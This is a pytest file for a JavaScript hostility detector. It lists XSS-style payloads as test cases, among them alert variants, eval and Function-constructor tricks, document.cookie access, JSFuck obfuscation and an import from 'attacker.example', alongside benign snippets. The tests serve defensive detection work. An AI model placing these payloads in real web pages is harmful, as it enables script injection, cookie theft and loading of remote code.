"""What a piece of JavaScript would do."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nightlatch.checks.attacks.javascript.acts import Danger, act, calls, sentence
from nightlatch.checks.attacks.javascript.tokens import tokens


@pytest.mark.parametrize(
    "code",
    [
        "alert(1)",
        "(alert)(1)",
        "alert?.(1)",
        "alert`1`",
        "alert.call(null,1)",
        "top.alert(1)",
        "window['al'+'ert'](1)",
        "[1].find(alert)",
        "a=alert,a(1)",
        "onerror=alert;throw 1",
        "document.cookie",
        "document['cookie']",
        "setTimeout('alert(1)')",
        "[].map.constructor('x')()",
        "Function('alert(1)')()",
        "eval(name)",
        "location='javascript:alert(1)'",
        "location=name",
        "import('//attacker.example')",
        "document.write('<script src=//x></script>')",
        "eval('eval(\"eval(`alert(1)`)\")')",
        'a="x";b="alert(1)";eval(a+b)',
        "(![]+[])[+[]]+(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]",
    ],
)
def test_hostile(code: str) -> None:
    found = act(code)
    assert found.danger is Danger.HOSTILE
    assert found.why


@pytest.mark.parametrize(
    "code",
    [
        "save()",
        "confirm('Do you really want to leave?')",
        "return confirm('Sure? This cannot be undone.')",
        "alert(message)",
        "dialog.confirm(1)",
        "document.getElementById('x').value",
        "location.href='/home'",
        "setTimeout(refresh, 1000)",
        "ga('send', 'event')",
        "this.src='b.png'",
        "class A { constructor(name) {} }",
    ],
)
def test_code_that_means_no_harm(code: str) -> None:
    assert act(code).danger is Danger.CODE


@pytest.mark.parametrize("code", ["", " ", "void(0)", "void 0", ";", "return false;", "#", "//"])
def test_nothing(code: str) -> None:
    assert act(code).danger is Danger.NONE


def test_prose_is_no_script() -> None:
    assert sentence(tokens("please alert (1) of us"))
    assert not sentence(tokens("throw new Error(1)"))
    assert calls("f(1)")
    assert not calls("a word (or two)")


@given(st.text(alphabet="alert()[]'+.=;`ev document cookie", max_size=120))
@settings(max_examples=100, deadline=None)
def test_never_raises(code: str) -> None:
    act(code)
